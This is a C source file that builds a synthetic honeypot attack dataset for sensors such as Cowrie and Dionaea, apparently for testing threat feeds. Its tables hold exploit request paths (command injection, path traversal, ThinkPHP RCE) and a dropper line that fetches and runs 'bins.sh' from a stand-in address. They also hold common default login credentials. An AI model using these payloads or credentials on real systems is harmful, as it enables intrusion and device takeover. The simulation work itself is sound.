/* sample.c: the tables and rules of the synthetic honeypot network (sample.h). */
#include "sample.h"

#include <stdio.h>
#include <stdlib.h>

#define LEN(a) (sizeof(a) / sizeof((a)[0]))

static const struct honeypot_kind kinds[] = {
    {"cowrie", "SSH/console(cowrie)", "SSH Honeypot Cowrie", REQ_SHELL, 22, 26},
    {"honeytrap", "Network(honeytrap)", "NetworkHoneypot Honeytrap v1.1", REQ_PORT, 0, 20},
    {"dionaea", "Network(Dionaea)", "Network Honeypot Dionaea v0.1.0", REQ_PORT, 0, 14},
    {"heralding", "Passwords(heralding)", "Heralding Honeypot", REQ_LOGIN, 21, 10},
    {"glastopf", "Webpage", "Webpage Honeypot Glastopf", REQ_URL, 80, 8},
    {"tanner", "Webpage", "Webpage Honeypot Tanner", REQ_URL, 80, 4},
    {"mailoney", "E-Mail(mailoney)", "Mail Honeypot mailoney", REQ_NONE, 25, 3},
    {"rdpy", "RDP(rdpy)", "RDP Honeypot RDPY", REQ_NONE, 3389, 3},
    {"vnclowpot", "VNC(vnclowpot)", "VNC Honeypot vnclowpot", REQ_NONE, 5900, 2},
    {"ciscoasa", "Network(cisco-asa)", "Cisco ASA Honeypot", REQ_NONE, 8443, 2},
    {"elasticpot", "Service(ES)", "Elasticsearch Honeypot Elasticpot", REQ_NONE, 9200, 2},
    {"conpot", "Industrial(conpot)", "Conpot ICS Honeypot", REQ_NONE, 502, 2},
    {"suricata", "Network(suricata)", "Suricata IDS", REQ_NONE, 0, 2},
    {"glutton", "Network(glutton)", "Glutton Honeypot", REQ_NONE, 0, 1},
    {"medpot", "Service(Medicine)", "Medpot HL7 Honeypot", REQ_NONE, 2575, 1},
};

/* Attacker countries, most active first (the share falls with the position). */
static const struct country attacker_countries[] = {
    {"CN", "China", 34.7725, 113.7266},        {"US", "United States", 37.751, -97.822},
    {"RU", "Russia", 55.7386, 37.6068},        {"NL", "Netherlands", 52.3824, 4.8995},
    {"DE", "Germany", 51.2993, 9.491},         {"BR", "Brazil", -22.8305, -43.2192},
    {"IN", "India", 21.9974, 79.0011},         {"VN", "Vietnam", 16.0020, 105.9980},
    {"KR", "Republic of Korea", 37.5112, 126.9741}, {"FR", "France", 48.8582, 2.3387},
    {"GB", "United Kingdom", 51.4964, -0.1224}, {"ID", "Indonesia", -6.1750, 106.8286},
    {"TW", "Taiwan", 24.0, 121.0},             {"UA", "Ukraine", 50.4522, 30.5287},
    {"IR", "Iran", 35.6980, 51.4115},          {"SG", "Singapore", 1.2868, 103.8503},
    {"HK", "Hong Kong", 22.2908, 114.1501},    {"JP", "Japan", 35.6900, 139.6900},
    {"CA", "Canada", 43.6319, -79.3716},       {"RO", "Romania", 44.4268, 26.1025},
    {"PL", "Poland", 52.2394, 21.0362},        {"TR", "Turkey", 41.0214, 28.9948},
    {"AR", "Argentina", -34.6022, -58.3845},   {"MX", "Mexico", 19.4285, -99.1277},
    {"IT", "Italy", 43.1479, 12.1097},         {"ES", "Spain", 40.4172, -3.6840},
};

/* Where the sensors stand: mostly Germany, as in the EWS network. */
static const struct country sensor_countries[] = {
    {"DE", "Germany", 51.2993, 9.491}, {"DE", "Germany", 50.1188, 8.6843}, {"DE", "Germany", 52.5196, 13.4069},
    {"AT", "Austria", 48.2085, 16.3721}, {"CH", "Switzerland", 47.3667, 8.55}, {"PL", "Poland", 52.2394, 21.0362},
    {"NL", "Netherlands", 52.3824, 4.8995}, {"US", "United States", 39.0437, -77.4875},
};

static const unsigned scanned_ports[] = {
    445, 23, 22, 80, 3389, 1433, 3306, 5900, 8080, 443, 25, 5060, 6379, 9200, 2222,
    21, 110, 143, 161, 502, 8443, 5555, 37215, 52869, 7547, 8088, 11211, 27017, 5432, 1723,
};

static const char *const urls[] = {
    "/", "/wp-login.php", "/xmlrpc.php", "/.env", "/admin/config.php", "/phpmyadmin/index.php",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/boaform/admin/formLogin", "/HNAP1/", "/GponForm/diag_Form?images/", "/shell?cd+/tmp;rm+-rf+*;wget+http://example.invalid/a.sh",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system?wt=json",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/actuator/health", "/api/v1/pods", "/owa/auth/logon.aspx", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/wp-content/plugins/wp-file-manager/readme.txt", "/manager/html", "/console/", "/.git/config",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", "/login.cgi?cli=aa%20aa%27;wget%20http://x.invalid/s%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$",
    "/robots.txt", "/favicon.ico", "/sitemap.xml", "/server-status", "/?XDEBUG_SESSION_START=phpstorm",
    "/mgmt/tm/util/bash", "/autodiscover/autodiscover.json?@test.invalid/owa/?&Email=autodiscover/autodiscover.json%3F@x",
};

static const char *const shell_inputs[] = {
    "", "\nuname -a", "\nenable\nshell\nsh\ncat /proc/mounts; /bin/busybox VDXZY",
    "\ncd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "\ncat /proc/cpuinfo | grep name | wc -l\nfree -m | grep Mem\nls -lh $(which ls)",
    "\necho -e \"\\x41\\x4b\\x34\\x37\"", "\nnproc\nuname -m\ncrontab -l", "",
};

static const char *const credentials[][2] = {
    {"root", "root"}, {"admin", "admin"}, {"root", "123456"}, {"user", "user"}, {"root", "klv123"},
    {"admin", "password"}, {"support", "support"}, {"root", "xc3511"}, {"pi", "raspberry"}, {"ubnt", "ubnt"},
    {"test", "test"}, {"oracle", "oracle"}, {"postgres", "postgres"}, {"root", "vizxv"}, {"guest", "12345"},
};

static const char *const cves[] = {
    "CVE-2017-0144", "CVE-2021-44228", "CVE-2014-6271", "CVE-2017-17215", "CVE-2018-10561", "CVE-2021-41773",
};

void rng_seed(struct rng *r, unsigned long seed)
{
    r->state[0] = 0x330e;
    r->state[1] = (unsigned short)seed;
    r->state[2] = (unsigned short)(seed >> 16);
}

unsigned rng_below(struct rng *r, unsigned n)
{
    return (unsigned)(nrand48(r->state) % (long)n);
}

double rng_unit(struct rng *r)
{
    return erand48(r->state);
}

/* Index into a table of n entries, the first ones most likely (a rough power law). */
static unsigned skewed(struct rng *r, unsigned n)
{
    double u = rng_unit(r);

    return (unsigned)(u * u * u * n);
}

static const struct honeypot_kind *weighted_kind(unsigned slot)
{
    unsigned total = 0;

    for (size_t i = 0; i < LEN(kinds); i++)
        total += kinds[i].weight;
    slot %= total;
    for (size_t i = 0; i < LEN(kinds); i++) {
        if (slot < kinds[i].weight)
            return &kinds[i];
        slot -= kinds[i].weight;
    }
    return &kinds[0];
}

void world_init(struct world *w)
{
    struct rng own, *r = &own;

    rng_seed(r, 20170222);
    w->community_sensors = SAMPLE_SENSORS * 3 / 4;
    for (unsigned t = 0; t < SAMPLE_TPOTS; t++) {
        const struct country *where = &sensor_countries[skewed(r, LEN(sensor_countries))];
        bool named = rng_below(r, 4) != 0; /* old installations report no hostname */
        /* T-Pot containers report their docker address; others their public one */
        uint32_t target = rng_below(r, 3) == 0 ? (172u << 24 | 20u << 16 | t) : (87u << 24 | 150u << 16 | t << 4 | 1);

        for (unsigned i = t * SENSORS_PER_TPOT; i < (t + 1) * SENSORS_PER_TPOT; i++) {
            struct sensor *s = &w->sensors[i];

            s->kind = weighted_kind(i * 7);
            s->country = where;
            s->community = i < w->community_sensors;
            s->target_ip = target;
            snprintf(s->ident, sizeof s->ident, "%s-%s-%03u", s->kind->id_prefix, s->community ? "community" : "dtag",
                     i);
            snprintf(s->hostname, sizeof s->hostname, named ? "tpot-%03u" : "undefined", t);
        }
    }
}

const struct sensor *sensor_pick(const struct world *w, struct rng *r, bool community_only)
{
    return &w->sensors[rng_below(r, community_only ? w->community_sensors : SAMPLE_SENSORS)];
}

const struct sensor *tpot_sensor(const struct world *w, struct rng *r, unsigned tpot)
{
    return &w->sensors[tpot % SAMPLE_TPOTS * SENSORS_PER_TPOT + rng_below(r, SENSORS_PER_TPOT)];
}

uint32_t attacker_address(uint32_t attacker)
{
    /* an odd multiplier permutes 0..2^30-1; 11.0.0.0 + 2^30 stays below 75.0.0.0, all global */
    return (11u << 24) + ((attacker * 2654435761u) & ((1u << 30) - 1));
}

uint32_t private_address(uint32_t n)
{
    return n & 1 ? (192u << 24 | 168u << 16 | (n >> 1 & 0xffff)) : (10u << 24 | (n >> 1 & 0xffffff));
}

void ipv4_text(uint32_t addr, char out[16])
{
    snprintf(out, 16, "%u.%u.%u.%u", addr >> 24, addr >> 16 & 255, addr >> 8 & 255, addr & 255);
}

void as_text(uint32_t addr, char *out, size_t size)
{
    snprintf(out, size, "AS%u Example Transit %u", 64496 + (addr >> 20) % 1000, (addr >> 20) % 1000);
}

void location_text(const struct country *c, uint32_t addr, char *out, size_t size)
{
    snprintf(out, size, "%.4f , %.4f", c->lat + (double)((addr >> 8) % 201) / 100.0 - 1.0,
             c->lon + (double)(addr % 201) / 100.0 - 1.0);
}

static const struct country *attacker_country(uint32_t attacker)
{
    /* stable per attacker: the same address always comes from the same country */
    uint32_t h = attacker * 2246822519u;
    double u = (double)(h >> 8) / (double)(1u << 24);

    return &attacker_countries[(unsigned)(u * u * LEN(attacker_countries))];
}

static void fill_request(const struct sensor *s, struct rng *r, struct attack *a)
{
    const char *const *cred = credentials[skewed(r, LEN(credentials))];

    switch (s->kind->style) {
    case REQ_URL:
        a->url = urls[skewed(r, LEN(urls))];
        break;
    case REQ_SHELL:
        a->input = shell_inputs[rng_below(r, LEN(shell_inputs))];
        a->username = cred[0];
        a->password = cred[1];
        a->login = rng_below(r, 5) == 0 ? "Success" : "Fail";
        break;
    case REQ_LOGIN:
        a->username = cred[0];
        a->password = cred[1];
        break;
    default:
        break;
    }
}

void attack_sample(const struct sensor *s, struct rng *r, uint32_t attacker, time_t when, bool some_private,
                   struct attack *out)
{
    *out = (struct attack){.sensor = s, .protocol = "tcp", .created = when, .username = "", .password = "",
                           .login = "", .input = ""};
    /* private sources (NAT, internal scanners): the feeds must drop them */
    out->source_ip = some_private && rng_below(r, 50) == 0 ? private_address(attacker) : attacker_address(attacker);
    out->source_country = attacker_country(attacker);
    out->source_port = 1024 + rng_below(r, 64511);
    out->target_port = s->kind->port ? s->kind->port : scanned_ports[skewed(r, LEN(scanned_ports))];
    if (out->target_port == 161 || out->target_port == 5060)
        out->protocol = "udp";
    fill_request(s, r, out);
    if (s->kind->style == REQ_PORT && rng_below(r, 40) == 0)
        out->cve = cves[rng_below(r, LEN(cves))];
}

void request_string(const struct attack *a, char *out, size_t size)
{
    int n = 0;

    if (a->cve)
        n = snprintf(out, size, "(%s) ", a->cve);
    if (n < 0 || (size_t)n >= size)
        return;
    if (a->sensor->kind->style == REQ_PORT)
        snprintf(out + n, size - (size_t)n, "Attack on port %u/%s", a->target_port, a->protocol);
    else if (a->url)
        snprintf(out + n, size - (size_t)n, "%s", a->url);
    else
        snprintf(out + n, size - (size_t)n, "%s", a->input ? a->input : "");
}

void utc_text(time_t t, char out[20])
{
    struct tm tm;

    gmtime_r(&t, &tm);
    strftime(out, 20, "%Y-%m-%d %H:%M:%S", &tm);
}
